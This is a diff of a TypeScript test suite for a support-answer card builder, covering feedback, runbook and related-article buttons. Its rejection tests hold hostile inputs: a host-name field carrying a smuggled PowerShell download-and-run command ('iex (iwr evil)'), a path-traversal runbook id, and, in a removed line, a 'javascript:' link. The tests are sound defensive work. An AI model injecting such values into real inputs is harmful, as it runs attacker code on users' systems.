@@ -8,14 +8,27 @@ function titles(data: AnswerData): string[] {
   return cardButtons(answerCard(data)).map(({ title }) => title);
 }
 
-function withRun(run: { text: string; style: 'plain' | 'strong' | 'code' | 'link'; url?: string }): AnswerData {
-  return answerWith({ sections: [{ heading: '', blocks: [{ kind: 'text', marker: '', runs: [run] }] }] });
-}
-
 describe('answerCard', () => {
   it('asks whether it helped, offers the rest and more like it', () => {
     expect(titles(answer)).toEqual(['This fixed it', 'It did not help', 'Show the rest', 'Show more like this']);
     expect(titles({ ...answer, more: null })).toEqual(['This fixed it', 'It did not help', 'Show more like this']);
+  });
+
+  it('offers to walk through its steps until it is known whether it helped', () => {
+    const runbook = { id: 'restore-connectivity', label: 'Walk me through: Restore connectivity' };
+    const withSteps = { ...answer, runbook };
+    const [, , steps] = cardButtons(answerCard(withSteps));
+    expect(steps).toEqual({
+      title: runbook.label,
+      data: { verb: 'runbook.started', form, article: 'event-33008', runbook: 'restore-connectivity' },
+    });
+    expect(titles(withSteps)).toHaveLength(5);
+    expect(titles({ ...withSteps, verdict: 'failed' })).toEqual(['Show the rest', 'Show more like this']);
+  });
+
+  it('offers no other articles to somebody they are not for', () => {
+    expect(titles({ ...answer, more: null, hasRelated: false })).toEqual(['This fixed it', 'It did not help']);
+    expect(titles({ ...answer, hasRelated: false, verdict: 'helped' })).toEqual(['Show the rest']);
   });
 
   it.each([
@@ -43,36 +56,10 @@ describe('answerCard', () => {
     expect(card.speak).toBe(answer.speak);
   });
 
-  it('dresses each run by its style', () => {
-    const shown = (run: Parameters<typeof withRun>[0]) => JSON.stringify(answerCard(withRun(run)).body);
-    expect(shown({ text: 'r', style: 'plain' })).toContain('{"type":"TextRun","text":"r"}');
-    expect(shown({ text: 'r', style: 'strong' })).toContain('{"type":"TextRun","text":"r","weight":"Bolder"}');
-    expect(shown({ text: 'r', style: 'code' })).toContain('{"type":"TextRun","text":"r","fontType":"Monospace"}');
-    expect(shown({ text: 'r', style: 'link', url: 'https://example.com/a' })).toContain(
-      '"text":"r","color":"Accent","underline":true,"selectAction":{"type":"Action.OpenUrl","url":"https://example.com/a"}',
-    );
-  });
-
-  it('shows a command line by line on a ground of its own', () => {
-    const blocks = [{ kind: 'command', text: 'a\r\n  b' }] as const;
-    const { body } = answerCard(answerWith({ sections: [{ heading: '', blocks }] }));
-    const line = (text: string) => ({
-      type: 'RichTextBlock',
-      spacing: 'None',
-      inlines: [{ type: 'TextRun', text, fontType: 'Monospace' }],
-    });
-    expect(body).toContainEqual({
-      type: 'Container',
-      items: [{ type: 'Container', style: 'emphasis', spacing: 'Small', items: [line('a'), line('  b')] }],
-    });
-  });
-
   it.each<[string, AnswerData]>([
-    ['a link without an address', withRun({ text: 'a', style: 'link' })],
-    ['a link that is a script', withRun({ text: 'a', style: 'link', url: 'javascript:alert(1)' })],
-    ['a link that is not safe', withRun({ text: 'a', style: 'link', url: 'http://example.com' })],
-    ['an odd marker', answerWith({ sections: [{ heading: '', blocks: [{ kind: 'step', marker: '-', runs: [] }] }] })],
     ['nothing to speak', { ...answer, speak: '' }],
+    ['a page that is none', answerWith({ status: { label: 1 as unknown as string } })],
+    ['a runbook whose id is a path', { ...answer, runbook: { id: '../small', label: 'Steps' } }],
     ['a value that is more than a host name', { ...answer, fill: { namespace: 'x.example; iex (iwr evil) #' } }],
   ])('refuses %s', (_what, data) => {
     expect(() => answerCard(data)).toThrow();
